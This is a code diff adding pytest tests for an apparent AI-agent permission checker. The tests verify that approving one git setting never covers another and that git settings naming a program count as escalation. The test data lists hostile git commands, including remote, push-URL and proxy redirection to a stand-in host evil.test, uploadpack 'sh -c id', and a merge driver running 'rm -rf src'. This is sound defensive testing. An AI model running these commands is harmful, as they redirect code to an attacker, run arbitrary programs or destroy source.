@@ -93,6 +93,51 @@ def test_a_project_rule_capped_at_network_never_covers_git_running_a_program():
         assert verdict(pushes, "run_shell", sh(command)).verdict == "ask", command
 
 
+# -- settings: a yes to one key never covers another ------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "later",
+    [
+        "git config remote.origin.url https://evil.test/x.git",  # the next push goes there
+        "git config remote.origin.pushurl https://evil.test/x.git",
+        "git config url.https://evil.test/.insteadOf https://github.com/",
+        "git config url.https://evil.test/.pushInsteadOf git@github.com:",
+        "git config http.proxy http://evil.test:8080",
+        "git config core.worktree /",
+    ],
+)
+def test_a_yes_to_one_git_setting_never_covers_another(later):
+    assert not _lifted("git config user.name bot", later), later
+    assert _lifted("git config user.name bot", "git config user.name other")
+
+
+@pytest.mark.parametrize(
+    "later",
+    ["git remote set-url origin https://evil.test/x.git", "git remote remove origin"],
+)
+def test_a_yes_to_adding_a_remote_never_covers_moving_another(later):
+    assert not _lifted("git remote add upstream https://github.com/a/b", later), later
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git config remote.origin.uploadpack 'sh -c id'",
+        "git config remote.origin.receivepack evil",
+        "git config core.askPass evil",
+        "git config merge.ours.driver 'rm -rf src'",
+        "git config diff.png.textconv evil",
+        "git config submodule.lib.update '!sh -c id'",
+        "git config pager.log evil",
+        "git -c remote.origin.uploadpack=evil fetch origin",
+    ],
+)
+def test_a_git_setting_that_names_a_program_is_escalation(command):
+    decision = verdict(RunAllowance(), "run_shell", sh(command))
+    assert decision.verdict == "ask" and decision.call_class == "escalation", decision
+
+
 # -- guards: what held ---------------------------------------------------------------------------
 
 
